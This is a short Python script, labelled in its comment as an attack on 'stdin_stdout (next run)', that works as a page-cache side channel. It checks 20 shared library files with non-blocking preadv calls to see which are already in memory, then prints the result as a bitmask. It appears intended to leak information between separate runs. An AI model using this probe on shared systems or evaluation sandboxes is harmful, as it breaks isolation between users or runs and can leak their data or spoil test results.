# Attack on stdin_stdout (next run): asks which pages of shared files are in memory, without reading those that are not.
import glob, os
names = sorted(glob.glob("/usr/lib/python3.11/lib2to3/fixes/*.py"))[22:42]

bits = 0
for i, name in enumerate(names):
    try:
        os.preadv(os.open(name, os.O_RDONLY), [bytearray(1)], 0, os.RWF_NOWAIT)
        bits |= 1 << i
    except BlockingIOError:
        pass
print(bits)
